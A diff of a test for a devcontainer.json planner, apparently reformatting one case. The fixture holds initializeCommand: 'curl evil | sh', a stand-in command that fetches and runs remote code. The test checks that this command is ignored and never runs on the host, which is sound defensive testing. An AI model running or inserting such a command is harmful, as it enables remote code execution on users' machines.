@@ -7,8 +7,21 @@ describe('devcontainer.json', () => {
   });
 
   it('takes image or build, containerEnv and postCreateCommand; ignores the rest with notes', () => {
-    const result = planDevcontainer({ build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } }, containerEnv: { MODE: 'dev' }, postCreateCommand: 'make setup', forwardPorts: [3000], initializeCommand: 'curl evil | sh' }, '.devcontainer');
-    expect('plan' in result && result.plan).toMatchObject({ build: { dockerfile: '.devcontainer/Dockerfile', context: '', args: { V: '1' } }, containerEnv: { MODE: 'dev' }, postCreateCommand: ['sh', '-c', 'make setup'] });
+    const result = planDevcontainer(
+      {
+        build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } },
+        containerEnv: { MODE: 'dev' },
+        postCreateCommand: 'make setup',
+        forwardPorts: [3000],
+        initializeCommand: 'curl evil | sh',
+      },
+      '.devcontainer',
+    );
+    expect('plan' in result && result.plan).toMatchObject({
+      build: { dockerfile: '.devcontainer/Dockerfile', context: '', args: { V: '1' } },
+      containerEnv: { MODE: 'dev' },
+      postCreateCommand: ['sh', '-c', 'make setup'],
+    });
     expect('plan' in result && result.plan.notes.join('\n')).toMatch(/initializeCommand ignored.*never runs.*host/);
   });
 
